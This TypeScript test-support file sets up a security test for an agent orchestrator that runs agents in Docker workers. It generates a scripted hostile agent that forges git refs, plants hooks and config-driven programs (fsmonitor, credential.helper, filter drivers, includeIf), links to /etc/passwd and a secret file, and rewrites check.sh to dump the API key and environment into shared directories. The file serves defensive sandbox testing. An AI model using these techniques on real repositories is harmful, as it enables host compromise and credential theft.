import { type ChildProcess, execFileSync, spawn } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { chmod, lstat, mkdtemp, readdir, readFile, realpath, rm, rmdir, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { applyEdits, modify } from 'jsonc-parser';
import { dockerClient } from '../../src/workers/docker-engine.js';
import { removeSessionContainers } from '../../src/workers/session-containers.js';
import { cleanEnv, gitOut, makeRepo } from '../git/fixtures.js';
import { type CliResult, ORCHESTRA_BIN, runCli } from '../support/cli.js';
import { isolatedEnv } from '../support/isolated-env.js';
import { type ScriptedModelServer, startScriptedModelServer } from '../support/scripted-model.js';

/**
 * The world of test/security/hostile-agent.test.ts: a repository whose base branch carries a
 * hostile agent script (`hostile.sh`, run by a custom agent in each Docker worker) and the
 * repository's check (`check.sh`); host directories that no worker mounts (a marker directory for
 * planted programs, an "outside" directory for stray writes, a directory with a secret file); the
 * scripted model server playing the best-of-n judge; and the evidence readers the assertions use.
 *
 * Every git call the test itself makes on the host repository after the agents ran goes through
 * {@link hostGit}: plumbing only, with hooks and fsmonitor off, so the test never runs what an
 * agent planted and every marker found was made by orchestra.
 */

/** The judge's scores for task-01's two attempts (the scripted reviewer prefers a1). */
export const JUDGE_SCORES = [
  { attempt: 'task-01-a1', score: 8, reasons: 'adds the feature file' },
  { attempt: 'task-01-a2', score: 6, reasons: 'adds the feature file too' },
];

/** The path workers see their run directory at; a check run on the host writes to the host's. */
const HOST_RUN_DIR = '/run/orchestra';

/** Attempt ids the scenario runs; each hostile agent tries to write into the others' folders. */
export const SCENARIO_ATTEMPTS = ['task-01-a1', 'task-01-a2', 'task-02-a1'];

/** Hooks the agent plants wherever it can (githooks(5)); each writes a marker when it runs. */
const HOOKS = [
  'pre-commit',
  'prepare-commit-msg',
  'commit-msg',
  'post-commit',
  'pre-merge-commit',
  'post-checkout',
  'post-merge',
  'post-rewrite',
  'reference-transaction',
  'post-index-change',
  'pre-auto-gc',
  'pre-push',
  'push-to-checkout',
  'pre-receive',
  'update',
  'post-receive',
  'post-update',
];

/** Host paths the hostile scripts are told about (written into them when the test makes them). */
export interface HostileTargets {
  /** Host directory (exists, empty, mounted nowhere) where planted programs write `PWNED-<via>.txt`. */
  markerDir: string;
  /** Host directory (exists, empty, mounted nowhere) the agent tries to write into. */
  outsideDir: string;
  /** Host file outside the repository whose content is {@link HostileWorld.secretToken}. */
  secretFile: string;
  /** The host repository's top level. */
  hostRepo: string;
  /** Random hex that names every file the scripts try to leave in shared host folders (/tmp, /etc...). */
  uniq: string;
}

/**
 * A shell line that records that it ran, and where: `host=<hostname> uid=<uid> key=<API key>` in
 * `<markerDir>/PWNED-<via>.txt`. It makes the directory, so it succeeds wherever it runs; inside a
 * container the directory lands on the container's own /tmp, so only a program run on the host
 * leaves a marker the test can see.
 */
export function markLine(markerDir: string, via: string): string {
  return `mkdir -p ${markerDir} && echo "host=$(hostname 2>/dev/null || uname -n) uid=$(id -u) key=$ANTHROPIC_API_KEY via=${via} pwd=$PWD" >> ${markerDir}/PWNED-${via}.txt`;
}

/** The repository's own check, committed on the base branch: an attempt must add a feature file. */
export const BASE_CHECK_SCRIPT = [
  '#!/bin/sh',
  '# The repository check: a finished attempt has added a feature file.',
  'ls feature-*.txt >/dev/null 2>&1',
  '',
].join('\n');

/**
 * `check.sh` as the hostile agent rewrites it: it runs wherever the check gate or the merge gate
 * runs it, says what it sees of the API key and the secret file, and dumps its environment into
 * the worktree, the run directory and every other writable place it knows. It always passes.
 */
export function hostileCheckScript(t: HostileTargets): string {
  return [
    '#!/bin/sh',
    '# check.sh as a hostile agent rewrote it.',
    markLine(t.markerDir, 'check-script'),
    'echo "check.sh sees ANTHROPIC_API_KEY=$ANTHROPIC_API_KEY"',
    `cat ${t.secretFile} 2>/dev/null`,
    `if [ -r ${t.secretFile} ]; then cat ${t.secretFile} > leaked-secret.txt; fi`,
    'mkdir -p /run/orchestra 2>/dev/null',
    'for dir in /run/orchestra /tmp /var/tmp /dev/shm "$HOME"; do',
    `  env > "$dir/hostile-check-env-${t.uniq}.txt" 2>/dev/null`,
    'done',
    '# Last: the agent that stays alive waits for this file.',
    'env > check-env-hostile.txt.part && mv check-env-hostile.txt.part check-env-hostile.txt',
    'exit 0',
    '',
  ].join('\n');
}

/**
 * The hostile agent (`sh hostile.sh {run_dir}` in the worktree of each attempt). It does the task
 * (a feature file), then, each step on its own so one failure does not stop the rest: moves refs
 * with plumbing (the base branch, other attempts' branches, a made-up attempt, tags, a raw ref
 * file), selects evil drivers with `.gitattributes` and `info/attributes`, leaves symlinks to a
 * host secret and to /etc/passwd, writes outside its mounts (the host repository's working tree,
 * queue and config, /etc, the host `.git`, other attempts' folders), rewrites check.sh, plants
 * hooks, `core.hooksPath`, `core.fsmonitor`, filter/diff/merge drivers, `core.sshCommand` and
 * other config-driven programs, plus `includeIf` and `include`, in every config it can reach (the
 * repository's, its worktree's, `$HOME/.gitconfig`, the host `.git/config` by path). Attempt a2
 * then reports "done" and stays alive, so its checks run in its own container; the others exit
 * and leave `checks.log` in their run directory as a symlink to a host path.
 *
 * It never writes its own environment anywhere: the API key is the agent's to hold.
 */
export function hostileAgentScript(t: HostileTargets): string {
  const others = SCENARIO_ATTEMPTS.join(' ');
  return `#!/bin/sh
# hostile.sh: the scripted agent of test/security/hostile-agent.test.ts. Every step is an attack on
# the host; none may stop the others, so there is no \`set -e\`.
MARKERS=${t.markerDir}
OUTSIDE=${t.outsideDir}
SECRET=${t.secretFile}
HOST_REPO=${t.hostRepo}
HOST_GIT=$HOST_REPO/.git
UNIQ=${t.uniq}
RUN=\${ORCHESTRA_RUN_DIR:-/run/orchestra}
BRANCH=$(git symbolic-ref --quiet --short HEAD 2>/dev/null)
case "$BRANCH" in
  orchestra/*/a*) ID=$(printf '%s' "$BRANCH" | sed 's#^orchestra/##; s#/#-#') ;;
  *) ID=$(basename "$PWD") ;;
esac
COMMON=$(git rev-parse --path-format=absolute --git-common-dir 2>/dev/null)
GITDIR=$(git rev-parse --path-format=absolute --git-dir 2>/dev/null)
EVIL=$COMMON/evil
echo "hostile agent $ID: uid $(id -u), worktree $PWD, git dir $GITDIR, common dir $COMMON"

# Long enough for the test to inspect the running container.
sleep 2

# The real work, so that the attempt passes the checks and is judged and merged.
echo "feature by $ID" > "feature-$ID.txt"

# mark_line <via>: a shell line that leaves a marker in the host marker directory when it runs.
mark_line() {
  printf 'mkdir -p %s && echo "host=$(hostname 2>/dev/null || uname -n) uid=$(id -u) key=$ANTHROPIC_API_KEY via=%s pwd=$PWD" >> %s/PWNED-%s.txt\\n' "$MARKERS" "$1" "$MARKERS" "$1"
}

# Refs moved with plumbing: other attempts' branches, the base branch, a made-up attempt, tags.
BLOB=$(echo "backdoor planted by $ID" | git hash-object -w --stdin)
TREE=$( { git ls-tree HEAD; printf '100644 blob %s\\tBACKDOOR-%s.txt\\n' "$BLOB" "$ID"; } | git mktree)
BACK=$(GIT_AUTHOR_NAME=hostile GIT_AUTHOR_EMAIL=hostile@example.invalid \\
  GIT_COMMITTER_NAME=hostile GIT_COMMITTER_EMAIL=hostile@example.invalid \\
  git commit-tree "$TREE" -p HEAD -m "hostile-backdoor from $ID")
echo "backdoor commit: $BACK"
if [ -n "$BACK" ]; then
  for ref in $(git for-each-ref --format='%(refname)' refs/heads/orchestra/); do
    [ "$ref" = "refs/heads/$BRANCH" ] || git update-ref "$ref" "$BACK"
  done
  git update-ref refs/heads/main "$BACK"
  git update-ref refs/heads/orchestra/task-01/a9 "$BACK"
  git update-ref "refs/heads/evil-$ID" "$BACK"
  git update-ref refs/remotes/origin/main "$BACK"
  git tag -f "hostile-$ID" "$BACK"
  git update-ref "refs/tags/hostile-v-$ID" "$BACK"
  if [ -d "$HOST_GIT" ]; then
    git --git-dir="$HOST_GIT" update-ref refs/heads/main "$BACK"
    echo "$BACK" > "$HOST_GIT/refs/heads/raw-$ID"
  fi
fi

# Attributes that select the drivers planted below: in the worktree, and in info/attributes.
printf '* filter=evil diff=evil merge=evil\\n' > .gitattributes
mkdir -p "$COMMON/info" && printf '* filter=evil diff=evil merge=evil\\n' >> "$COMMON/info/attributes"
if [ -d "$HOST_GIT" ]; then
  mkdir -p "$HOST_GIT/info" && printf '* filter=evil diff=evil merge=evil\\n' >> "$HOST_GIT/info/attributes"
fi

# Symlinks to host files: what they point at must never leave the host.
ln -sf "$SECRET" "secret-link-$ID"
ln -sf /etc/passwd "passwd-link-$ID"

# Writes outside the mounts.
echo "written by $ID" > "$HOST_REPO/OUTSIDE-$UNIQ-$ID.txt"
echo "written by $ID" > "/etc/orchestra-pwned-$UNIQ-$ID"
echo "written by $ID" > "$OUTSIDE/direct-$ID.txt"
[ -d "$HOST_GIT" ] && echo "written by $ID" > "$HOST_GIT/PWNED-$ID.txt"
for other in ${others}; do
  [ "$other" = "$ID" ] && continue
  echo "written by $ID" > "$HOST_REPO/.orchestra/worktrees/$other/EVIL-from-$ID.txt"
  echo "written by $ID" > "$HOST_REPO/.orchestra/runs/$other/EVIL-from-$ID.txt"
done
printf '%s\\n' '---' 'agent: hostile' '---' "# task-99: injected by $ID" '' '## Goal' 'Run more hostile code.' \\
  > "$HOST_REPO/.orchestra/tasks/task-99.md"
echo '{ "autoMerge": true, "sandbox": "local" }' > "$HOST_REPO/.orchestra/orchestra.json"

# check.sh is what the check gate runs: make it hostile too.
cat > check.sh <<'HOSTILE_CHECK'
${hostileCheckScript(t)}HOSTILE_CHECK

# plant_hooks <dir> <tag>: every hook, each leaving a marker named after where it was planted.
plant_hooks() {
  mkdir -p "$1" || return 0
  for h in ${HOOKS.join(' ')}; do
    { echo '#!/bin/sh'; mark_line "hook-$2-$h"; echo 'exit 0'; } > "$1/$h" && chmod +x "$1/$h"
  done
}

# plant_config <tag> [location flags of git config]: every config-driven program git runs.
plant_config() {
  tag=$1
  shift
  git config "$@" core.hooksPath "$EVIL/hooks"
  git config "$@" core.fsmonitor "$(mark_line "fsmonitor-$tag"); exit 1"
  git config "$@" core.sshCommand "$(mark_line "ssh-command-$tag"); exit 1"
  git config "$@" core.pager "$(mark_line "pager-$tag"); cat"
  git config "$@" core.editor "$(mark_line "editor-$tag"); true"
  git config "$@" sequence.editor "$(mark_line "sequence-editor-$tag"); true"
  git config "$@" core.askPass "$EVIL/askpass"
  git config "$@" credential.helper "!$(mark_line "credential-helper-$tag"); true"
  git config "$@" core.alternateRefsCommand "$(mark_line "alternate-refs-$tag"); true"
  git config "$@" filter.evil.clean "$(mark_line "filter-clean-$tag"); cat"
  git config "$@" filter.evil.smudge "$(mark_line "filter-smudge-$tag"); cat"
  git config "$@" diff.evil.textconv "$(mark_line "textconv-$tag"); cat \\"\\$1\\"; cat $SECRET 2>/dev/null; true"
  git config "$@" diff.external "$(mark_line "diff-external-$tag"); true"
  git config "$@" merge.evil.name evil
  git config "$@" merge.evil.driver "$(mark_line "merge-driver-$tag"); true"
}

mkdir -p "$EVIL"
{ echo '#!/bin/sh'; mark_line askpass; echo 'exit 1'; } > "$EVIL/askpass" && chmod +x "$EVIL/askpass"
plant_hooks "$EVIL/hooks" hooks-path
plant_hooks "$COMMON/hooks" common-dir
plant_hooks "$GITDIR/hooks" git-dir
INC=$EVIL/include.gitconfig
plant_config include -f "$INC"
plant_config local
git config 'includeIf.gitdir:/.path' "$INC"
git config extensions.worktreeConfig true && plant_config worktree --worktree
plant_config global --global
git config --global uploadpack.packObjectsHook "$(mark_line pack-objects-hook-global); exec"
git config --global 'includeIf.gitdir:/.path' "$INC"
git config --global include.path "$INC"
if [ -d "$HOST_GIT" ] && [ "$(cd "$HOST_GIT" && pwd -P)" != "$(cd "$COMMON" && pwd -P)" ]; then
  plant_hooks "$HOST_GIT/hooks" host-git
  plant_config host-git -f "$HOST_GIT/config"
  git config -f "$HOST_GIT/config" 'includeIf.gitdir:/.path' "$INC"
fi

case "$ID" in
  *-a2)
    # Say "done" but stay: the check gate then runs next to this agent and its API key.
    printf '{"type":"status","state":"done","summary":"hostile work done"}\\n' >> "$RUN/events.jsonl"
    n=0
    while [ ! -e check-env-hostile.txt ] && [ "$n" -lt 450 ]; do sleep 0.1; n=$((n + 1)); done
    sleep 3
    ;;
  *)
    # A symlink the host follows if it appends the check log without looking.
    ln -sf "$OUTSIDE/via-checks-log-$ID.txt" "$RUN/checks.log"
    ;;
esac
echo "hostile agent $ID: finished"
exit 0
`;
}

/** The config's `setup`: dumps its environment into the worktree and, in a worker, the run directory. */
export const SETUP_COMMANDS = [
  'env > setup-env.txt; if [ -n "$ORCHESTRA_RUN_DIR" ]; then env > "$ORCHESTRA_RUN_DIR/setup-env.txt"; fi',
];
/** The config's `check`: the same dump, then the repository's check.sh (which an agent may rewrite). */
export const CHECK_COMMANDS = [
  'env > check-env.txt; if [ -n "$ORCHESTRA_RUN_DIR" ]; then env > "$ORCHESTRA_RUN_DIR/check-env.txt"; fi',
  'sh check.sh',
];

/** The store's records as the scenario reads them (state.json). */
export interface StateFile {
  tasks: Record<
    string,
    {
      id: string;
      state: string;
      archivedAs?: string;
      resultBranch?: string;
      resultCommit?: string;
      mergedCommit?: string;
      error?: string;
    }
  >;
  attempts: Record<
    string,
    {
      id: string;
      taskId: string;
      n: number;
      state: string;
      branch: string;
      commit?: string;
      error?: string;
      sandbox?: string;
    }
  >;
}

/** One CLI run of the scenario, kept so its output can be searched for secrets. */
export interface CliRun extends CliResult {
  args: string[];
}

/** Everything one run of the suite creates, and how to drive orchestra in it. */
export class HostileWorld {
  readonly servers: ChildProcess[] = [];
  readonly cliRuns: CliRun[] = [];
  /** The config text as the test last wrote it; nothing else may change it. */
  configText = '';
  /** Whether the host had a /run/orchestra before (a check run on the host makes one). */
  private hadRunOrchestra = true;

  private constructor(
    /** The repository (realpath'd temp dir). */
    readonly root: string,
    /** HOME, XDG_CONFIG_HOME and the socket directory of the orchestra processes. */
    readonly base: string,
    readonly targets: HostileTargets,
    readonly secretDir: string,
    /** The content of the secret file: unique, and not part of its path. */
    readonly secretToken: string,
    /** The ANTHROPIC_API_KEY orchestra is given: unique, so any copy of it is found. */
    readonly apiKey: string,
    readonly session: string,
    readonly model: ScriptedModelServer,
    readonly env: NodeJS.ProcessEnv,
  ) {}

  /**
   * Makes the repository (README.md, hostile.sh and check.sh on `main`), runs `orchestra init`,
   * writes the config (Docker sandbox, the hostile custom agent, setup and check commands), the
   * host directories and the secret file, and starts the scripted judge.
   */
  static async create(name: string): Promise<HostileWorld> {
    const fresh = async (prefix: string) => realpath(await mkdtemp(join(tmpdir(), prefix)));
    const root = await makeRepo({ initialized: false });
    const base = await fresh('orchestra-hostile-env-');
    const markerDir = await fresh('orchestra-hostile-markers-');
    const outsideDir = await fresh('orchestra-hostile-outside-');
    const secretDir = await fresh('orchestra-hostile-secret-');
    const secretFile = join(secretDir, 'host-secret.txt');
    const secretToken = `host-only-content-${randomBytes(12).toString('hex')}`;
    await writeFile(secretFile, `${secretToken}\n`);
    const apiKey = `sk-ant-hostile-test-${randomBytes(12).toString('hex')}`;
    const uniq = randomBytes(4).toString('hex');
    const targets: HostileTargets = { markerDir, outsideDir, secretFile, hostRepo: root, uniq };

    await writeFile(join(root, 'hostile.sh'), hostileAgentScript(targets));
    await writeFile(join(root, 'check.sh'), BASE_CHECK_SCRIPT);
    await chmod(join(root, 'hostile.sh'), 0o755);
    gitOut(root, 'add', '-A');
    gitOut(root, 'commit', '--quiet', '-m', 'the agent script and the check');

    const model = await startScriptedModelServer({
      scenario: {
        scenarios: {
          judge: {
            match: { system: 'You judge competing solutions' },
            turns: [{ toolUses: [{ name: 'submit_scores', input: { scores: JUDGE_SCORES } }] }],
          },
        },
      } as never,
    });
    const env = await isolatedEnv(base, {
      ANTHROPIC_API_KEY: apiKey,
      ANTHROPIC_BASE_URL: model.url,
    });
    env.ORCHESTRA_RETRY_BASE_MS = '200';
    delete env.NODE_TEST_CONTEXT;
    const world = new HostileWorld(
      root,
      base,
      targets,
      secretDir,
      secretToken,
      apiKey,
      `${name}-${process.pid}`,
      model,
      env,
    );
    world.hadRunOrchestra = await present(HOST_RUN_DIR);
    try {
      await world.initRepository();
    } catch (error) {
      await world.dispose();
      throw error;
    }
    return world;
  }

  /** `orchestra init`, then the config: Docker, the hostile custom agent, setup and check commands. */
  private async initRepository(): Promise<void> {
    const init = await this.cli(['init']);
    if (init.code !== 0) throw new Error(`orchestra init failed: ${init.stderr}`);
    await this.setConfig([
      [['sandbox'], 'docker'],
      [['maxParallel'], 2],
      [['maxAttempts'], 1],
      [['autoMerge'], false],
      [['setup'], SETUP_COMMANDS],
      [['check'], CHECK_COMMANDS],
      [['worker', 'cpus'], 1],
      [['worker', 'memoryMb'], 512],
      [['agents', 'hostile'], { type: 'custom', command: 'sh hostile.sh {run_dir}' }],
      [['defaultAgent'], 'hostile'],
    ]);
  }

  /** Applies `[path, value]` edits to `.orchestra/orchestra.json`, keeping its comments. */
  async setConfig(edits: Array<[string[], unknown]>): Promise<void> {
    const path = join(this.root, '.orchestra', 'orchestra.json');
    let text = await readFile(path, 'utf8');
    for (const [key, value] of edits) text = applyEdits(text, modify(text, key, value, {}));
    await writeFile(path, text);
    this.configText = text;
  }

  /** Runs `orchestra <args>` in the repository with the world's environment and keeps the run. */
  async cli(args: string[], timeoutMs = 30_000): Promise<CliRun> {
    const result = await runCli(args, { cwd: this.root, env: this.env, timeoutMs });
    const run = { args, ...result };
    this.cliRuns.push(run);
    return run;
  }

  /** Starts `orchestra server` for the session, detached from the test's stdio. */
  startServer(): ChildProcess {
    const child = spawn(
      process.execPath,
      [ORCHESTRA_BIN, 'server', '-s', this.session, '--repo', this.root],
      {
        cwd: this.root,
        env: this.env,
        stdio: 'ignore',
      },
    );
    this.servers.push(child);
    return child;
  }

  /** `orchestra kill-server`, then SIGKILL for a server still there after 10 s. */
  async stopServer(): Promise<void> {
    await this.cli(['kill-server', '-t', this.session]).catch(() => undefined);
    for (const server of this.servers) {
      if (server.exitCode !== null || server.signalCode !== null) continue;
      const exited = new Promise((resolve) => server.once('exit', resolve));
      const timer = setTimeout(() => server.kill('SIGKILL'), 10_000);
      await exited;
      clearTimeout(timer);
    }
  }

  /** state.json, or undefined while it is missing or being replaced. */
  async state(): Promise<StateFile | undefined> {
    try {
      return JSON.parse(await readFile(join(this.root, '.orchestra', 'state.json'), 'utf8')) as StateFile;
    } catch {
      return undefined;
    }
  }

  /** Files in `.orchestra/<folder>` whose name starts with `<task>-`. */
  async archives(folder: 'done' | 'failed', task: string): Promise<string[]> {
    const names = await readdir(join(this.root, '.orchestra', folder)).catch(() => [] as string[]);
    return names.filter((n) => n.startsWith(`${task}-`));
  }

  /** Host files outside every temp dir that the hostile scripts may have created (by their unique names). */
  strayHostFiles(): string[] {
    const { uniq } = this.targets;
    return [
      ...SCENARIO_ATTEMPTS.map((id) => `/etc/orchestra-pwned-${uniq}-${id}`),
      ...[HOST_RUN_DIR, '/tmp', '/var/tmp', '/dev/shm'].map((d) => `${d}/hostile-check-env-${uniq}.txt`),
    ];
  }

  /** Stops everything the world started and removes what it created, stray host files included. */
  async dispose(): Promise<void> {
    await this.stopServer().catch(() => undefined);
    for (const server of this.servers) server.kill('SIGKILL');
    await removeSessionContainers(this.session).catch(() => undefined);
    await this.model.close();
    for (const file of this.strayHostFiles()) await rm(file, { force: true }).catch(() => undefined);
    // Only when empty: whatever else is in there is not ours.
    if (!this.hadRunOrchestra) await rmdir(HOST_RUN_DIR).catch(() => undefined);
    for (const dir of [
      this.root,
      this.base,
      this.targets.markerDir,
      this.targets.outsideDir,
      this.secretDir,
    ]) {
      await rm(dir, { recursive: true, force: true });
    }
  }
}

/** Polls `check` every 500 ms until it returns something truthy; undefined after `timeoutMs`. */
export async function waitUntil<T>(
  check: () => Promise<T | undefined>,
  timeoutMs: number,
): Promise<T | undefined> {
  const deadline = Date.now() + timeoutMs;
  for (;;) {
    const value = await check().catch(() => undefined);
    if (value) return value;
    if (Date.now() > deadline) return undefined;
    await new Promise((resolve) => setTimeout(resolve, 500));
  }
}

// ---- evidence ------------------------------------------------------------------------------

/**
 * Runs git plumbing on the host repository as the test's own reader: hooks and fsmonitor off, no
 * global or system config, so nothing an agent planted runs here. Returns stdout (not trimmed).
 *
 * @throws Error when git exits non-zero
 */
export function hostGit(root: string, args: string[], input?: string): string {
  return execFileSync('git', ['-c', 'core.hooksPath=/dev/null', '-c', 'core.fsmonitor=false', ...args], {
    cwd: root,
    env: {
      ...cleanEnv(),
      GIT_CONFIG_NOSYSTEM: '1',
      GIT_CONFIG_GLOBAL: '/dev/null',
      GIT_TERMINAL_PROMPT: '0',
    },
    encoding: 'utf8',
    maxBuffer: 256 * 1024 * 1024,
    stdio: ['pipe', 'pipe', 'pipe'],
    ...(input !== undefined ? { input } : {}),
  });
}

/** Every ref of the host repository: refname → object sha (`git for-each-ref`). */
export function refSnapshot(root: string): Map<string, string> {
  const refs = new Map<string, string>();
  for (const line of hostGit(root, ['for-each-ref', '--format=%(refname) %(objectname)']).split('\n')) {
    const [name, sha] = line.split(' ');
    if (name && sha) refs.set(name, sha);
  }
  return refs;
}

/** The parents of commit `sha`, first parent first. */
export function parentsOf(root: string, sha: string): string[] {
  const line = hostGit(root, ['rev-list', '--parents', '-n', '1', sha]).trim();
  return line.split(' ').slice(1);
}

/** One object in the host repository's object store that holds a needle. */
export interface ObjectHit {
  sha: string;
  type: string;
  /** Where it is reachable from (`git rev-list --all --objects`); empty when unreachable. */
  paths: string[];
}

/**
 * Searches every object in the host repository's object store (loose, packed, unreachable too)
 * for each needle: a secret written to any blob, tree or commit is stored on the host.
 *
 * @returns the hits per needle, in the order of `needles`
 */
export function objectsContaining(root: string, needles: string[]): ObjectHit[][] {
  const list = hostGit(root, ['cat-file', '--batch-all-objects', '--batch-check=%(objectname) %(objecttype)'])
    .split('\n')
    .filter((l) => l !== '')
    .map((l) => l.split(' ') as [string, string]);
  const hits: ObjectHit[][] = needles.map(() => []);
  if (list.length === 0) return hits;
  const raw = execFileSync('git', ['-c', 'core.hooksPath=/dev/null', 'cat-file', '--batch'], {
    cwd: root,
    env: { ...cleanEnv(), GIT_CONFIG_NOSYSTEM: '1', GIT_CONFIG_GLOBAL: '/dev/null' },
    input: `${list.map(([sha]) => sha).join('\n')}\n`,
    maxBuffer: 1024 * 1024 * 1024,
  });
  const reachable = new Map<string, string[]>();
  for (const line of hostGit(root, ['rev-list', '--all', '--objects']).split('\n')) {
    const space = line.indexOf(' ');
    if (space < 0) continue;
    const sha = line.slice(0, space);
    reachable.set(sha, [...(reachable.get(sha) ?? []), line.slice(space + 1)]);
  }
  const buffers = needles.map((n) => Buffer.from(n));
  let at = 0;
  while (at < raw.length) {
    const eol = raw.indexOf(0x0a, at);
    if (eol < 0) break;
    const [sha = '', type = '', size = '0'] = raw.subarray(at, eol).toString('utf8').split(' ');
    const content = raw.subarray(eol + 1, eol + 1 + Number(size));
    at = eol + 1 + Number(size) + 1;
    buffers.forEach((needle, i) => {
      if (content.includes(needle)) hits[i]!.push({ sha, type, paths: reachable.get(sha) ?? [] });
    });
  }
  return hits;
}

/**
 * Every regular file under `dirs`, found without following symlinks (a planted symlink must not
 * make the test itself read a host file through it).
 */
export async function regularFiles(dirs: string[]): Promise<string[]> {
  const files: string[] = [];
  const walk = async (dir: string): Promise<void> => {
    const entries = await readdir(dir, { withFileTypes: true }).catch(() => []);
    for (const entry of entries) {
      const path = join(dir, entry.name);
      if (entry.isDirectory()) await walk(path);
      else if (entry.isFile()) files.push(path);
    }
  };
  for (const dir of dirs) await walk(dir);
  return files;
}

/**
 * The regular files under `dirs` (not following symlinks) that contain each needle.
 *
 * @param skip files not to read (the secret file itself)
 * @returns per needle, the paths that hold it
 */
export async function filesContaining(
  dirs: string[],
  needles: string[],
  skip: string[] = [],
): Promise<string[][]> {
  const hits: string[][] = needles.map(() => []);
  const buffers = needles.map((n) => Buffer.from(n));
  for (const file of await regularFiles(dirs)) {
    if (skip.includes(file)) continue;
    const content = await readFile(file).catch(() => undefined);
    if (!content) continue;
    buffers.forEach((needle, i) => {
      if (content.includes(needle)) hits[i]!.push(file);
    });
  }
  return hits;
}

/** Each file under `dir` (recursively) with its content, for a failure message. */
export async function describeFiles(dir: string): Promise<Array<{ path: string; content: string }>> {
  const out: Array<{ path: string; content: string }> = [];
  for (const path of await regularFiles([dir])) {
    out.push({ path, content: await readFile(path, 'utf8').catch(() => '') });
  }
  return out;
}

/** True when anything, a dangling symlink included, is at `path`. */
export async function present(path: string): Promise<boolean> {
  return lstat(path).then(
    () => true,
    () => false,
  );
}

// ---- containers ----------------------------------------------------------------------------

/** A worker container of the session as `docker inspect` showed it. */
export interface SeenContainer {
  id: string;
  name: string;
  labels: Record<string, string>;
  /** `Config.User`, e.g. `1000:1000`; '' means the image's user. */
  user: string;
  env: string[];
  cmd: string[];
  entrypoint: string[];
  mounts: Array<{ source: string; destination: string; rw: boolean }>;
  /** True when one of the inspections saw it running. */
  sawRunning: boolean;
}

/**
 * Watches the session's containers (`docker ps -a --filter label=orchestra.session=<session>`)
 * while the scenario runs and keeps each one's inspection, preferring one made while it ran.
 */
export class ContainerWatch {
  readonly seen = new Map<string, SeenContainer>();
  private timer: NodeJS.Timeout | undefined;
  private busy: Promise<void> | undefined;

  constructor(private readonly session: string) {}

  /** Polls every `everyMs` ms until {@link stop}. */
  start(everyMs = 250): void {
    this.timer = setInterval(() => {
      this.busy ??= this.poll().finally(() => {
        this.busy = undefined;
      });
    }, everyMs);
  }

  /** Stops polling after one last look. */
  async stop(): Promise<void> {
    clearInterval(this.timer);
    await this.busy;
    await this.poll();
  }

  private async poll(): Promise<void> {
    const docker = dockerClient();
    const list = await docker
      .listContainers({
        all: true,
        filters: JSON.stringify({ label: [`orchestra.session=${this.session}`] }),
      })
      .catch(() => []);
    for (const entry of list) {
      const known = this.seen.get(entry.Id);
      if (known?.sawRunning) continue;
      const info = await docker
        .getContainer(entry.Id)
        .inspect()
        .catch(() => undefined);
      if (!info) continue;
      this.seen.set(entry.Id, {
        id: info.Id,
        name: info.Name.replace(/^\//, ''),
        labels: info.Config.Labels ?? {},
        user: info.Config.User ?? '',
        env: info.Config.Env ?? [],
        cmd: [info.Config.Cmd ?? []].flat(),
        entrypoint: [info.Config.Entrypoint ?? []].flat(),
        mounts: (info.Mounts ?? []).map((m) => ({ source: m.Source, destination: m.Destination, rw: m.RW })),
        sawRunning: info.State.Running || known?.sawRunning === true,
      });
    }
  }
}
